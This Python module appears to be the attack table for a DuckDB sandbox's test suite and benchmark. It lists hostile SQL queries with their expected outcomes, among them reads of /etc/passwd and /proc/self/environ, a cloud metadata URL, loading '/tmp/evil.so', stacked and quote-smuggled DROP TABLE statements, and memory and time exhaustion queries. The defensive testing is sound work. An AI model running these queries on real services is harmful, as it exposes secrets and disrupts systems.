"""What strangers try with SQL: one table, for `test_attacks` and for `bench/sql_attacks.py`.

Each attack is a group, a query, and what comes of it: `refused` (code `sql`: it never runs),
`limited` (code `sql-limit`: it ran into the limit of time or memory) or `harmless` (it runs, and
gives nothing away). Texts here are our own; `{release}` stands for the folder of the release.
"""

from typing import Literal, NamedTuple

Outcome = Literal["refused", "limited", "harmless"]


class Attack(NamedTuple):
    """One query and what comes of it; for some, more than one way to end is right."""

    group: str
    query: str
    outcomes: tuple[Outcome, ...]


def _group(name: str, *outcomes: Outcome, queries: tuple[str, ...]) -> tuple[Attack, ...]:
    return tuple(Attack(name, query, outcomes) for query in queries)


FILES = _group(
    "files",
    "refused",
    queries=(
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM read_blob('/proc/self/environ')",
        "SELECT * FROM read_csv('/etc/passwd', sep = ':')",
        "SELECT * FROM read_csv_auto('/etc/hosts')",
        "SELECT * FROM read_json('/etc/passwd')",
        "SELECT * FROM read_ndjson_objects('/etc/passwd')",
        "SELECT * FROM read_parquet('{release}/events.parquet')",
        "SELECT * FROM parquet_scan('{release}/*.parquet')",
        "SELECT * FROM parquet_metadata('{release}/events.parquet')",
        "SELECT * FROM read_duckdb('{release}/dateline.duckdb')",
        "SELECT * FROM sniff_csv('/etc/passwd')",
        "SELECT * FROM glob('/*')",
        "FROM glob('{release}/../**')",
        "SELECT * FROM '/etc/passwd'",
        "SELECT * FROM '{release}/events.parquet'",
        'FROM "file.csv"',
        "DESCRIBE '/etc/passwd'",
        "SUMMARIZE 'x.parquet'",
        "SELECT (SELECT content FROM read_text('/etc/passwd'))",
        "WITH x AS (FROM read_text('/etc/passwd')) FROM x",
        "EXPLAIN ANALYZE SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM events WHERE quote IN (SELECT content FROM read_text('/etc/passwd'))",
        "SELECT * FROM events, LATERAL (SELECT * FROM read_text('/etc/' || 'passwd'))",
        "SELECT * FROM RéAD_TEXT('/etc/passwd')",
        "SELECT * FROM ReAd_TeXt('/etc/passwd')",
        "SELECT * FROM \"read_text\"('/etc/passwd')",
        "SELECT * FROM system.main.read_text('/etc/passwd')",
        "SELECT * FROM/**/read_text(/* ' */'/etc/passwd')",
        "FROM seq_scan('events')",
    ),
)
NETWORK = _group(
    "network",
    "refused",
    queries=(
        "SELECT * FROM 'http://169.254.169.254/latest/meta-data'",
        "SELECT * FROM 'https://example.org/x.parquet'",
        "SELECT * FROM read_csv('http://127.0.0.1:8000/health')",
        "SELECT * FROM 's3://bucket/x.parquet'",
        "ATTACH 'http://example.org/x.duckdb'",
        "INSTALL httpfs",
        "LOAD httpfs",
        "FORCE INSTALL spatial FROM 'http://example.org'",
        "LOAD '/tmp/evil.so'",
    ),
)
WRITING = _group(
    "writing",
    "refused",
    queries=(
        "COPY (SELECT 1) TO '/tmp/dateline-attack.csv'",
        "COPY events FROM '/etc/passwd'",
        "EXPLAIN ANALYZE COPY (SELECT 1) TO '/tmp/dateline-attack.csv'",
        "EXPLAIN (ANALYZE) COPY (SELECT 1) TO '/tmp/dateline-attack.csv'",
        "EXPORT DATABASE '/tmp/dateline-attack'",
        "IMPORT DATABASE '/tmp/dateline-attack'",
        "ATTACH '/tmp/dateline-attack.duckdb'",
        "ATTACH ':memory:' AS more",
        "DETACH release",
        "USE memory",
        "CREATE TABLE t AS SELECT 1",
        "CREATE TEMP TABLE t AS SELECT 1",
        "CREATE VIEW v AS SELECT 1",
        "CREATE MACRO f() AS 1",
        "CREATE OR REPLACE TEMP MACRO count(x) AS 0",
        "CREATE SECRET s (TYPE s3)",
        "CREATE TYPE t AS ENUM ('a')",
        "CREATE SEQUENCE s",
        "INSERT INTO events SELECT * FROM events",
        "UPDATE events SET quote = ''",
        "DELETE FROM events",
        "DROP TABLE events",
        "ALTER TABLE events ADD COLUMN x INTEGER",
        "TRUNCATE events",
        "WITH x AS (INSERT INTO events SELECT * FROM events RETURNING *) FROM x",
        "WITH x AS (DELETE FROM events RETURNING *) SELECT * FROM x",
        "MERGE INTO events USING events AS e ON true WHEN MATCHED THEN DELETE",
        "VACUUM",
        "ANALYZE",
        "CHECKPOINT",
        "FORCE CHECKPOINT",
        "FROM checkpoint()",
        "FROM force_checkpoint()",
        "BEGIN TRANSACTION",
        "COMMENT ON TABLE events IS 'x'",
        "SELECT nextval('s')",
        "SELECT write_log('x')",
        "FROM enable_logging()",
        "FROM truncate_duckdb_logs()",
        "FROM create_external_resource('x')",
    ),
)
SETTINGS = _group(
    "settings",
    "refused",
    queries=(
        "SET memory_limit = '100GB'",
        "SET GLOBAL threads = 64",
        "SET enable_external_access = true",
        "SET VARIABLE x = 1",
        "RESET lock_configuration",
        "PRAGMA memory_limit = '100GB'",
        "PRAGMA database_list",
        "PRAGMA enable_profiling",
        "PRAGMA show_tables",
        "CALL pragma_version()",
        "CALL enable_profiling()",
        "FROM enable_profiling()",
        "SELECT setseed(0.5), current_setting('memory_limit')",
    ),
)
LEAKS = _group(
    "leaks",
    "refused",
    queries=(
        "SELECT path FROM duckdb_databases()",
        "SELECT * FROM duckdb_databases",
        "SELECT * FROM system.main.duckdb_databases()",
        "FROM pragma_database_list",
        "FROM pragma_database_size()",
        "SHOW DATABASES",
        "DESCRIBE duckdb_databases",
        "FROM duckdb_settings()",
        "FROM pg_settings",
        "FROM pg_catalog.pg_settings",
        "FROM duckdb_extensions()",
        "FROM duckdb_secrets()",
        "FROM which_secret('s3://x', 's3')",
        "FROM duckdb_temporary_files()",
        "FROM duckdb_logs()",
        "FROM duckdb_memory()",
        "FROM duckdb_external_file_cache()",
        "FROM duckdb_variables()",
        "FROM duckdb_prepared_statements()",
        "FROM sqlite_master",
        "SELECT getenv('HOME')",
        "SELECT current_setting('allowed_paths')",
        "SELECT getvariable('x')",
        "SELECT current_query()",
        "FROM pragma_storage_info('events')",
        "FROM pragma_metadata_info()",
        "FROM pragma_user_agent()",
    ),
)
INDIRECT = _group(
    "indirect",
    "refused",
    queries=(
        "FROM query('FROM duckdb_settings()')",
        "FROM query('SELECT 1; COPY (SELECT 1) TO ''/tmp/dateline-attack''')",
        "FROM query_table('duckdb_settings')",
        "FROM query_table(['/etc/passwd'])",
        "FROM json_execute_serialized_sql(json_serialize_sql('FROM duckdb_settings()'))",
        "SELECT json_execute_serialized_sql('{}')",
        "FROM histogram('duckdb_settings', value)",
        "FROM histogram_values('/etc/passwd', content)",
        "SELECT * FROM (WITH duckdb_settings AS (SELECT 1) FROM duckdb_settings), duckdb_settings",
        "SELECT * FROM (WITH pragma_database_list AS (SELECT 1) SELECT 1), pragma_database_list",
        "SELECT * FROM (WITH \"/etc/passwd\" AS (SELECT 1) SELECT 1), '/etc/passwd'",
        "SELECT * FROM (WITH \"x.csv\" AS (SELECT 1) SELECT 1), 'x.csv'",
        "PREPARE p AS SELECT 1",
        "EXECUTE p",
        "DEALLOCATE p",
        "SELECT * FROM settings",
        "SELECT * FROM self",
        "SELECT * FROM connection",
        "FROM python_map_function()",
        "FROM pandas_scan(0)",
        "FROM arrow_scan(1, 2, 3)",
        "FROM arrow_scan_dumb(4096, 4096, 4096)",
        "PIVOT events ON type",
    ),
)
SEVERAL = _group(
    "several statements",
    "refused",
    queries=(
        "SELECT 1; DROP TABLE events",
        "SELECT 1;; SELECT 2",
        "SELECT 1 /* ; */; SET threads = 4",
        "SELECT 1 -- \n; COPY (SELECT 1) TO '/tmp/dateline-attack'",
        "BEGIN; SELECT 1; COMMIT",
        "; ; ;",
        "SELECT '; ' || $$;$$; ATTACH ':memory:' AS x",
    ),
)
TRICKS = _group(
    "tricks of writing",
    "refused",
    "harmless",
    queries=(
        "SELECT/**/1",
        "SELECT /* /* */ 1",
        "SELECT 1 /*",
        "SELECT 1 -- \r; SET threads = 4",
        "SELECT\u00a01",
        "SELECT\u20281",
        "SELECT\u200b1",
        "\ufeffSELECT 1",
        "SELECT '\u202e1'",
        "ＳＥＬＥＣＴ 1",
        "SELECT ʻ1ʼ",
        "SELECT 'a\\'; DROP TABLE events; --'",
        "SELECT E'a\\'; DROP TABLE events; --'",
        "SELECT $a$ $b$ $a$",
        "SELECT $$ unfinished",
        "SELECT 'unfinished",
        'SELECT "unfinished',
        'SELECT * FROM (SELECT 1) AS "; DROP TABLE events"',
        "SELECT error('/etc/passwd')",
        "SELECT 'x'::INT",
        "SELECT version(), current_schema(), current_database(), pg_typeof(1)",
        "FROM duckdb_functions() WHERE function_name = 'read_text'",
        "SELECT parse_path('/etc/passwd'), path_join('/etc', 'passwd')",
        "SELECT * FROM information_schema.tables, duckdb_tables(), duckdb_columns()",
        "SHOW ALL TABLES",
        "SELECT * FROM events AT (VERSION => 1)",
    ),
)
MEMORY = _group(
    "memory",
    "limited",
    queries=(
        "SELECT length(repeat('x', 4000000000))",
        "SELECT list_sort(range(100000000))",
        "SELECT string_agg(repeat('x', 1000000), '') FROM range(100000)",
        "SELECT list(range) FROM range(1000000000)",
        "SELECT a.range FROM range(100000) a, range(100000) b ORDER BY hash(a.range, b.range)",
        "SELECT count(DISTINCT hash(range)) FROM range(10000000000)",
        "SELECT lpad('x', 2000000000, 'y')",
        "SELECT list_resize([1], 4000000000)",
        "SELECT repeat([repeat('x', 100000)], 100000)",
        "SELECT array_agg(repeat('x', 100000)) OVER () FROM range(1000000)",
        "SELECT map(range(100000000), range(100000000))",
        "SELECT md5(repeat('a', 2000000000))",
        "SELECT to_json(range(200000000))",
        "SELECT repeat(chr(1), 1000000) FROM range(1000)",
    ),
)
ENDLESS = _group(
    "endless",
    "limited",
    queries=(
        "SELECT count(*) FROM range(100000000000000)",
        "SELECT count(*) FROM range(1000000) a, range(1000000) b, range(1000000) c",
        "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x) SELECT max(n) FROM x",
        "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT 1 FROM x, x y) SELECT count(*) FROM x",
        "SELECT sum(levenshtein(repeat('a', 90000), repeat('b', 90000 + range::INT)))"
        " FROM range(50)",
        "SELECT damerau_levenshtein(repeat('ab', 9000), repeat('ba', 9001)) FROM range(50)",
        "SELECT count(*) FROM events a, events b, events c, events d, events e, events f, events g,"
        " events h, events i",
        "SELECT count(*) FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '9999-01-01',"
        " INTERVAL 1 MICROSECOND)",
        "SELECT histogram(range) FROM range(10000000000)",
    ),
)
LONG = _group(
    "long",  # a fast machine may be done with them in time
    "limited",
    "harmless",
    queries=(
        "SELECT jaccard(repeat('ab', 90000000), repeat('ba', 90000001))",
        "SELECT regexp_matches(repeat('a', 10000000), '(a?){900}a{900}')",
        "SELECT list_reduce(range(1, 30000000), lambda a, b: (a * 7 + b) % 1000003)",
    ),
)
WAITING = _group(
    "waiting",
    "refused",
    queries=(
        "SELECT sleep_ms(60000)",
        "SELECT SLEEP_MS(60000) FROM range(100)",
        "SELECT pg_sleep(60)",
    ),
)
SIZE = _group(
    "size and depth",
    "refused",
    "limited",
    "harmless",
    queries=(
        "SELECT " + "(" * 20_000 + "1" + ")" * 20_000,
        "SELECT " + "[" * 20_000 + "1" + "]" * 20_000,
        "SELECT " + "+".join(["1"] * 20_000),
        "SELECT " + "- " * 20_000 + "1",
        "SELECT " + "NOT " * 12_000 + "true",
        "SELECT " + "(SELECT " * 6_000 + "1" + ")" * 6_000,
        "SELECT * FROM " + "(SELECT * FROM " * 3_000 + "events" + ")" * 3_000,
        "SELECT " + ", ".join(f"{n} AS c{n}" for n in range(3_000)),
        "SELECT 1 WHERE 1 IN (" + ", ".join(map(str, range(8_000))) + ")",
        "SELECT 1" + " UNION ALL SELECT 1" * 2_000,
        "SELECT CASE " + "WHEN true THEN 1 " * 2_500 + "END",
        "WITH " + ", ".join(f"c{n} AS (SELECT 1)" for n in range(2_000)) + " SELECT 1",
        "WITH c0 AS (SELECT 1 AS x), "
        + ", ".join(f"c{n} AS (SELECT a.x FROM c{n - 1} a, c{n - 1} b)" for n in range(1, 24))
        + " SELECT count(*) FROM c23",
        "SELECT '" + "x" * 49_000 + "'",
        "SELECT '" + "x" * 60_000 + "'",
        'SELECT 1 AS "' + "n" * 40_000 + '" FROM range(100000)',
        "SELECT {" + "'a': {" * 4_000 + "'a': 1" + "}" * 4_001,
        "/*" * 20_000,
        "--" + "\n--" * 15_000,
        "SELECT " + '"' * 40_001,
        "SELECT a" + ".a" * 15_000,
        "SELECT '" + "a" * 2_000 + "' SIMILAR TO '" + "(a*)*" * 500 + "b'",
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *FILES,
    *NETWORK,
    *WRITING,
    *SETTINGS,
    *LEAKS,
    *INDIRECT,
    *SEVERAL,
    *TRICKS,
    *WAITING,
    *MEMORY,
    *ENDLESS,
    *LONG,
    *SIZE,
)
